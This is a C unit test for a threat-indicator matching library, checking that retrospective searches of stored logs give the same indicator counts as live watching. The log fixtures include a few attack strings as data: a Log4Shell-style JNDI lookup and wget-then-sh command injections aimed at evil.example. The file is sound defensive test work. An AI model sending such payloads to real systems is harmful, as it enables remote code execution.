/* SPDX-License-Identifier: Apache-2.0 */
/* What is remembered answers as the log itself does: the same lines watched, and asked of the memory afterwards, give the same values of the same indicators as often. */
#include <stdio.h>
#include <unistd.h>

#include "test.h"

#include "sys/file.h"
#include "watch/retro_search.h"

#define NOW 1700000000
#define TOLD_MAX 256

static const char lines[] =
    "{\"timestamp\":\"2023-11-10T10:00:00Z\",\"event_type\":\"http\",\"src_ip\":\"192.0.2.9\",\"dest_ip\":\"198.51.100."
    "7\",\"dest_port\":8080,\"http\":{\"hostname\":\"BAD.example\",\"url\":\"\\/a\\/"
    "b?c=1\",\"http_user_agent\":\"kit\\/"
    "1.0 (x)\"}}\n"
    "{\"timestamp\":\"2023-11-11T10:00:00Z\",\"query\":\"a.b.evil.example.\",\"answers\":[\"203.0.113.5\",\"2001:DB8:0:"
    ":"
    "5\"]}\n"
    "{\"timestamp\":\"2023-11-11T11:00:00Z\",\"file\":{\"name\":\"evil "
    "tool.exe\",\"path\":\"C:\\\\Users\\\\x\\\\evil "
    "tool.exe\",\"hash\":{\"md5\":\"0123456789ABCDEF0123456789ABCDEF\"}},\"user_agent\":{\"original\":\"Mozilla/5.0 "
    "Chrome/203.0.113.5\"}}\n"
    "2023-11-12T00:00:01Z visit http://evil.example/x, mail Mallory@evil.example; not notevil.example or "
    "203.0.113.55.1\n"
    "2023-11-12T23:59:59Z ssh from 203.0.113.5 port 22, again 203.0.113.5\n"
    "2023-11-12T10:00:00Z host pkg: upgraded foo version 192.0.2.77, build v192.0.2.77, from 192.0.2.77\n"
    "{\"timestamp\":\"2023-11-12T11:00:00Z\",\"tls\":{\"fingerprint\":\"01:23:45:67:89:ab:cd:ef:01:23:45:67:89:AB:CD:"
    "EF:01:"
    "23:45:67\",\"serial\":\"0A:1B:2C\",\"ja3\":{\"hash\":\"6734f37431670b3ab4292b8f60f29984\"}}}\n"
    "{\"@timestamp\":\"2023-11-12T12:00:00Z\",\"winlog\":{\"event_data\":{\"PipeName\":\"\\\\evilpipe\","
    "\"TargetObject\":"
    "\"HKLM\\\\Software\\\\Evil\\\\Run\",\"MutexName\":\"Global\\\\MtxAbc77\"}}}\n"
    "{\"timestamp\":\"2023-11-12T13:00:00Z\",\"event_type\":\"smtp\",\"email\":{\"attachment\":[\"plain.txt\",\"evil "
    "doc.exe\"]},\"as\":{\"number\":64500}}\n"
    "{\"@timestamp\":\"2023-11-12T14:00:00Z\",\"winlog\":{\"event_data\":{\"EventType\":\"SetValue\",\"TargetObject\":"
    "\"HKLM\\\\Software\\\\Evil\\\\Agent9\\\\Updater\"}}}\n"
    "{\"@timestamp\":\"2023-11-12T14:00:00Z\",\"winlog\":{\"event_data\":{\"EventType\":\"SetValue\",\"TargetObject\":"
    "\"HKLM\\\\Software\\\\Evil\\\\Agent10\\\\x\\\\Updater\"}}}\n"
    "2023-11-12T15:00:00Z analyst: hxxps://safe[.]example/y, evil[.]example and 203[.]0.113[.]5; "
    "mallory[at]evil[.]example\n"
    "2023-11-12T15:00:00Z analyst: evil.example[.]org 203.0.113.5[.]9 not[.]x-evil.example\n"
    "LEEF:2.0|V|P|1.0|42|^|url=http://leef.example/a.php^usrName=x\n"
    /* control characters as rsyslog writes them */
    "Nov 12 10:00:00 h app: Name:#011evil.example#015#012 From:#011203.0.113.5#015#012 "
    "Hash:#0110123456789abcdef0123456789abcdef#012x#012y evil.example#0123\n"
    /* and as programs and terminals do */
    "2023-11-12T10:00:00Z Name:\\tevil.example\\r\\nFrom:\\t203.0.113.5\\r\\nUrl:\\thttp://evil.example/x\\r\\n "
    "^I203.0.113.5^M\n"
    "2023-11-12T10:00:00Z C:\\tevil.example CORP\\nevil.example\n"
    /* typographic signs */
    "2023-11-12T10:00:00Z \xe2\x80\x9c"
    "evil.example\xe2\x80\x9d \xc2\xab"
    "http://evil.example/x\xc2\xbb 203.0.113.5\xe2\x80\x94x \xef\xbc\x88"
    "203.0.113.5\xef\xbc\x89 mallory@evil.example\xe2\x80\xa6 \xe2\x80\x9d"
    "evil[.]example\xe2\x80\x9d b\xc3\xbc"
    "cher.example\xe3\x80\x82\n"
    /* in a query of another URL */
    "2023-11-12T10:00:00Z GET /r?u=x%2Fevil.example%2Fy&v=%252fa.evil.example%252f&w=%61evil.example\n"
    "2023-11-12T10:00:00Z GET /r?u=https%3A%2F%2Fsafe.example%2Fy&m=mallory%40evil.example HTTP/1.1\n"
    "2023-11-12T10:00:00Z GET /r?u=https:%2F%2Fsafe.example%2Fy&v=http://bad.example:8080/a/b?c=1&w=z HTTP/1.1\n"
    "2023-11-12T10:00:00Z GET /r?u=http%253A%252F%252F203.0.113.5%252Fz&m=o%27mallory%2540EVIL.example HTTP/1.1\n"
    /* rows of netstat's and argus's */
    "2023-11-12T10:00:00Z tcp4 0 0 203.0.113.5.443 10.0.0.1.5 ESTABLISHED\n"
    "2023-11-12T10:00:00Z udp 203.0.113.5.53 <-> 203.0.113.5.5\n"
    "2023-11-12T10:00:00Z foo 203.0.113.5.53 -> 203.0.113.5.5\n"
    /* ends of flows */
    "2023-11-12T10:00:00Z 203.0.113.5->10.0.0.1 2001:db8::5->2001:db8::5 a.evil.example.->mallory@evil.example->x\n"
    "2023-11-12T10:00:00Z IP 203.0.113.5.443 > 203.0.113.5.55321: Flags [S] 203.0.113.5.443 > x\n"
    /* JSON in a value */
    "time=2023-11-12T10:00:00Z level=info msg=\"{\\\"version\\\":\\\"203.0.113.5\\\",\\\"user_agent\\\":\\\"kit/1.0 "
    "(x)\\\","
    "\\\"u\\\":\\\"http:\\\\/\\\\/evil.example\\\\/x\\\"}\"\n"
    "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"userAgent\":\"[kit/1.0 (x)]\"}\n"
    /* JSON in strings of JSON */
    "{\"log\":\"{\\\"timestamp\\\":\\\"2023-11-12T10:00:00Z\\\",\\\"version\\\":\\\"203.0.113.5\\\",\\\"file\\\":"
    "{\\\"path\\\":\\\"C:\\\\\\\\x\\\\\\\\evil tool.exe\\\"},\\\"u\\\":\\\"http:\\\\/\\\\/"
    "inner.example\\\\/a?b=1\\\\u0026c=2\\\",\\\"q\\\":\\\"203.0.113.5 evil.example\\\"}\\n\",\"stream\":\"stdout\"}\n"
    "no time at all: from=o'neil@mail.example b\xc3\xbc"
    "cher.example and aaaaaaaabbbbbbbbccccccccdddddddd00001111\n";

static const char more_lines[] =
    /* addresses in user agents and behind names; a serial number, a user agent and a path in texts */
    "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"user_agent\":\"${jndi:ldap:\\/\\/203.0.113.5:1389\\/a} x/203.0.113.5 "
    "y\"}\n"
    "2023-11-12T10:00:00Z Alice/203.0.113.5:1194 peer info: IV_VER=2 Alice/203.0.113.5\n"
    "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"message\":\"serial number: 0A:1B:2C, x\",\"a\":\"id 0A:1B:2C\"}\n"
    "<134>Nov 12 10:00:00 h app: {\"h\":[{\"name\":\"User-Agent\",\"value\":\"kit/1.0 (x) \"}],"
    "\"file_path\":\"/opt//Evil/run7\"}\n"
    "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"h\":[{\"Name\":\"User-Agent\",\"Value\":\"kit/1.0 (x)\"}]}\n"
    /* URLs between blanks of a query */
    "192.0.2.1 - - [12/Nov/2023:10:00:00 +0000] \"GET /r?u=http://evil.example/x&c=wget+http://evil.example/x+-O "
    "HTTP/1.1\" "
    "200 1 \"-\" "
    "\"wget%20http://evil.example/x%20-O;a%20http%3A%2F%2Fevil.example%2Fx%20b+http%3A%2F%2Fevil.example%2Fx\"\n"
    "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"url\":{\"query\":\"cmd=wget+http://evil.example/x;sh+y\"}}\n";

static const char table[] = "time,user_agent,note\n"
			    "2023-11-12T10:00:00Z,\"kit \"\"q\"\" 2.0\",\"see \"\"http://evil.example/x\"\", x\"\n"
			    "2023-11-12T10:00:00Z,plain,\"http://evil.example/x, say \"\"y\"\"\"\n"
			    "2023-11-12T10:00:00Z,plain,evil.example\n";

/* Several objects in a line. */
static const char arrays[] = "[{\"timestamp\":\"2023-11-12T10:00:00Z\",\"a\":\"b\"},{\"u\":\"http:\\/\\/evil.example\\/"
			     "x\",\"user_agent\":\"kit\\/1.0 "
			     "(x)\"}, {\"http\":{\"hostname\":\"inner.example\",\"url\":\"\\/a?b=1\\u0026c=2\"}}]\n"
			     "{\"timestamp\":\"2023-11-12T10:00:00Z\"}{\"TargetObject\":"
			     "\"HKLM\\\\Software\\\\Evil\\\\Run\"},{\"version\":\"203.0.113.5\"}\n";

/* Messages in columns of CSV, a split URL of CEF, and LEEF. */
static const char messages[] =
    "_time,src_ip,_raw\n"
    "2023-11-12T10:00:00Z,203.0.113.5,\"CEF:0|V|P|1|100|N|5|dhost=inner.example request=/a?b\\=1&c\\=2 "
    "deviceVersion=192.0.2.77\"\n"
    "2023-11-12T10:00:00Z,203.0.113.5,\"x=y a=b filename=\"\"evil tool.exe\"\" agent=\"\"kit/1.0 (x)\"\"\"\n"
    "2023-11-12T10:00:00Z,203.0.113.5,LEEF:2.0|V|P|1|42|^|url=http://leef.example/a.php^usrName=x\n"
    "2023-11-12T10:00:00Z,203.0.113.5,LEEF:2.0|V|P|1|42|^|url=http://inner.example/a?b=1&c=2^usrName=x\n"
    "2023-11-12T10:00:00Z,203.0.113.5,LEEF:2.0|V|P|1|42|^|url=http%3A%2F%2Fleef.example%2Fa.php^usrName=x\n"
    "2023-11-12T10:00:00Z,203.0.113.5,\"CEF:0|V|P|1|100|N|5|requestClientApplication=kit \"\"q\"\" 2.0\"\n"
    "2023-11-12T10:00:00Z,203.0.113.5,\"a=b c=d user_agent=\"\"kit \\\"\"q\\\"\" 2.0\"\"\"\n";

/* Events of Windows in strings of JSON, and what has letters behind backslashes. */
static const char events[] =
    "{\"@timestamp\":\"2023-11-12T10:00:00Z\",\"message\":\"\\u003cEvent xmlns='a' "
    "x='y'\\u003e\\u003cEventData\\u003e\\u003cData "
    "Name='x'\\u003e203.0.113.5\\u003c/Data\\u003e\\u003cData "
    "Name='y'\\u003eC:\\\\x\\u003c/Data\\u003e\\u003c/EventData\\u003e\\u003c/Event\\u003e\"}\n"
    "[{\"timestamp\":\"2023-11-12T10:00:00Z\"},{\"message\":\"date=2023-11-12 a=b user_agent=\\\"kit \\\\\\\"q\\\\\\\" "
    "2.0\\\" c=d\"}]\n"
    "{\"@timestamp\":\"2023-11-12T10:00:00Z\",\"message\":\"Address:\\\\t203.0.113.5\\\\r\\\\nUser:\\\\tmallory@evil."
    "example\\\\n\"}\n"
    "{\"@timestamp\":\"2023-11-12T10:00:00Z\",\"message\":\"<Event xmlns=\\\"a\\\"><EventData><Data Name=\\\"Url\\\">"
    "http://inner.example/a?b=1&amp;c=2</Data><Data Name=\\\"UserAgent\\\">kit &quot;q&quot; "
    "2.0</Data></EventData></Event>\"}\n"
    "{\"@timestamp\":\"2023-11-12T10:00:00Z\",\"message\":\"\\u003cEvent "
    "xmlns='a'\\u003e\\u003cEventData\\u003e\\u003cData "
    "Name='Url'\\u003ehttp://inner.example/a?b=1\\u0026amp;c=2\\u003c/Data\\u003e\\u003c/EventData\\u003e\\u003c/"
    "Event\\u003e\"}\n";

static const struct {
	ac_value_type type;
	const char *text;
} listed[] = {
	{ AC_VALUE_DOMAIN, "evil.example" },
	{ AC_VALUE_DOMAIN, "bad.example" },
	{ AC_VALUE_DOMAIN, "xn--bcher-kva.example" },
	{ AC_VALUE_IPV4, "203.0.113.5" },
	{ AC_VALUE_IPV4, "198.51.100.0/24" },
	{ AC_VALUE_IPV6, "2001:db8::5" },
	{ AC_VALUE_URL, "http://bad.example:8080/a/b?c=1" },
	{ AC_VALUE_URL, "http://evil.example/x" },
	{ AC_VALUE_URL, "https://safe.example/y" },
	{ AC_VALUE_URL, "http://203.0.113.5/z" },
	{ AC_VALUE_URL, "http://leef.example/a.php" },
	{ AC_VALUE_EMAIL, "mallory@evil.example" },
	{ AC_VALUE_EMAIL, "o'neil@mail.example" },
	{ AC_VALUE_FILE_NAME, "evil tool.exe" },
	{ AC_VALUE_MD5, "0123456789abcdef0123456789abcdef" },
	{ AC_VALUE_SHA1, "aaaaaaaabbbbbbbbccccccccdddddddd00001111" },
	{ AC_VALUE_USER_AGENT, "kit/1.0 (x)" },
	{ AC_VALUE_IPV4, "192.0.2.77" },
	{ AC_VALUE_CERT_SHA1, "0123456789abcdef0123456789abcdef01234567" },
	{ AC_VALUE_CERT_SERIAL, "0a1b2c" },
	{ AC_VALUE_JA3, "6734f37431670b3ab4292b8f60f29984" },
	{ AC_VALUE_NAMED_PIPE, "\\\\.\\pipe\\evilpipe" },
	{ AC_VALUE_REGISTRY_KEY, "HKLM\\Software\\Evil\\Run" },
	{ AC_VALUE_REGISTRY_KEY, "HKLM\\Software\\Evil\\Agent9" },
	{ AC_VALUE_REGISTRY_KEY, "HKLM\\Software\\Evil\\Agent10" },
	{ AC_VALUE_MUTEX, "Global\\MtxAbc77" },
	{ AC_VALUE_FILE_NAME, "evil doc.exe" },
	{ AC_VALUE_AS_NUMBER, "AS64500" },
	{ AC_VALUE_URL, "http://inner.example/a?b=1&c=2" },
	{ AC_VALUE_USER_AGENT, "kit \"q\" 2.0" },
	{ AC_VALUE_FILE_PATH, "/opt/Evil/run7" },
};

typedef struct told {
	char key[256];
	uint64_t count;
} told;

typedef struct answers {
	told all[TOLD_MAX];
	unsigned n;
} answers;

static void
tell(answers *a, ac_str id, ac_str value, uint64_t count)
{
	char key[256];

	(void)snprintf(key, sizeof(key), "%.*s %.*s", AC_FMT(id), AC_FMT(value));
	for (unsigned i = 0; i < a->n; i++)
		if (strcmp(a->all[i].key, key) == 0) {
			a->all[i].count += count;
			return;
		}
	assert_true(a->n < TOLD_MAX);
	(void)snprintf(a->all[a->n].key, sizeof(a->all[a->n].key), "%s", key);
	a->all[a->n++].count = count;
}

static int
on_hit(void *payload, const ac_hit *hit, accord_err *err)
{
	(void)err;
	for (size_t i = 0; i < hit->indicator_count; i++)
		tell(payload, hit->indicators[i].id, hit->value, 1);
	return 0;
}

static int
on_found(void *payload, const ac_retro_hit *hit, accord_err *err)
{
	(void)err;
	assert_true(ac_str_eq(hit->sources, AC_S("s1/x.log")));
	assert_true(ac_time_cmp(hit->first, hit->last) <= 0);
	for (size_t i = 0; i < hit->indicator_count; i++)
		tell(payload, hit->indicators[i].id, hit->value, hit->count);
	return 0;
}

static int
remove_one(void *payload, const char *path, accord_err *err)
{
	(void)payload;
	(void)err;
	return unlink(path);
}

static ac_index *
make_index(void)
{
	ac_index_builder *b = ac_index_builder_open((ac_hash_seed){ { 7, 8 } }, 1);
	ac_index *index = NULL;
	accord_err err = { 0 };
	ac_arena arena;

	assert_non_null(b);
	ac_arena_init(&arena, AC_MIB);
	for (size_t i = 0; i < AC_COUNT(listed); i++) {
		ac_index_indicator who = { .valid_from = AC_TIME_MIN,
			.valid_until = AC_TIME_MAX,
			.id = ac_arena_printf(&arena, "indicator--%08zu-0000-4000-8000-000000000000", i),
			.name = ac_str_from(listed[i].text) };
		ac_value value;

		assert_int_equal(ac_value_parse(listed[i].type, ac_str_from(listed[i].text), &arena, &value, &err), 0);
		assert_int_equal(ac_index_add_value(b, &who, &value, &err), 0);
	}
	assert_int_equal(ac_index_finish(b, &index, &err), 0);
	ac_index_builder_close(b);
	ac_arena_done(&arena);
	return index;
}

/* A text so many times over, on disk after each few: what is watched, and what is remembered of it, are the same. */
static void
check_rounds(const char *text, unsigned rounds, unsigned least)
{
	static const ac_retro_limits limits = { 365, 0, 1000 };
	answers log = { .n = 0 }, memory = { .n = 0 };
	char folder[] = "/tmp/accord-retro-XXXXXX";
	ac_index *index = make_index();
	ac_watch_sink sink = { on_hit, NULL, &log };
	ac_retro_search search = { .folder = folder, .to_day = INT32_MAX, .index = index, .on_hit = on_found };
	ac_walk_sink removal = { remove_one, NULL, NULL };
	ac_retro_found found;
	accord_err err = { 0 };
	ac_retro *retro;
	ac_watch *w;

	assert_non_null(mkdtemp(folder));
	retro = ac_retro_open(folder, &limits, (ac_time){ NOW, 0 }, (ac_hash_seed){ { 1, 2 } });
	w = ac_watch_open(index, AC_S("/logs/s1/2023-11-12/x.log.1"), (ac_time){ NOW, 0 }, &sink);
	assert_non_null(retro);
	assert_non_null(w);
	assert_int_equal(ac_watch_remember(w, retro, &err), 0);
	for (unsigned i = 0; i < rounds; i++) {
		assert_int_equal(ac_watch_feed(w, ac_str_from(text), &err), 0);
		if (i % 16 == 15)
			assert_int_equal(ac_retro_flush(retro, (ac_time){ NOW, 0 }, &err), 0);
	}
	assert_int_equal(ac_watch_end(w, &err), 0);
	ac_watch_close(w);
	assert_int_equal(ac_retro_flush(retro, (ac_time){ NOW, 0 }, &err), 0);
	ac_retro_close(retro);
	search.payload = &memory;
	assert_int_equal(ac_retro_find(&search, &found, &err), 0);
	assert_in_range(log.n, least, TOLD_MAX);
	for (unsigned i = 0; i < log.n; i++) {
		uint64_t count = 0;

		for (unsigned k = 0; k < memory.n; k++)
			if (strcmp(memory.all[k].key, log.all[i].key) == 0)
				count = memory.all[k].count;
		if (count != log.all[i].count)
			print_message("%s\n", log.all[i].key);
		assert_int_equal(count, log.all[i].count);
	}
	assert_int_equal(memory.n, log.n);
	ac_index_close(index);
	assert_int_equal(ac_walk(folder, &removal, &err), 0);
	(void)rmdir(folder);
}

static void
retro__answers_as_the_log_does(void **state)
{
	(void)state;
	/* Each listed value but a key above another, a path, and one of the table's, is in the log. */
	check_rounds(lines, 1, AC_COUNT(listed) - 3);
	check_rounds(more_lines, 1, 5);
}

/* Spellings that were seen a moment ago have their place in the memory, until everything goes to disk. */
static void
retro__what_comes_again_is_counted_each_time(void **state)
{
	(void)state;
	check_rounds(lines, 100, AC_COUNT(listed) - 2);
}

static void
retro__knows_doubled_quotes(void **state)
{
	(void)state;
	check_rounds(table, 1, 3);
}

static void
retro__knows_later_objects_of_a_line(void **state)
{
	(void)state;
	check_rounds(arrays, 1, 5);
}

static void
retro__knows_messages_in_columns_and_strings(void **state)
{
	(void)state;
	check_rounds(messages, 1, 6);
	check_rounds(events, 1, 5);
}

/* Of a line with more fields than a record may have the rest is a text, which is escaped. */
static void
retro__knows_what_stands_behind_too_many_fields(void **state)
{
	ac_buf line;

	(void)state;
	ac_buf_init(&line, AC_MIB);
	ac_buf_add_cstr(&line, "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"x\":[1");
	for (unsigned i = 0; i < AC_LOG_FIELDS_MAX; i++)
		ac_buf_add_cstr(&line, ",\"a\"");
	ac_buf_add_cstr(&line, ",\"http:\\/\\/evil.example\\/x\",\"b\\u00fccher.example\"]}\n");
	ac_buf_add(&line, (ac_str){ "", 1 });
	check_rounds(ac_buf_view(&line).p, 1, 2);
	ac_buf_done(&line);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(retro__answers_as_the_log_does),
		cmocka_unit_test(retro__knows_doubled_quotes),
		cmocka_unit_test(retro__knows_messages_in_columns_and_strings),
		cmocka_unit_test(retro__knows_later_objects_of_a_line),
		cmocka_unit_test(retro__knows_what_stands_behind_too_many_fields),
		cmocka_unit_test(retro__what_comes_again_is_counted_each_time),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
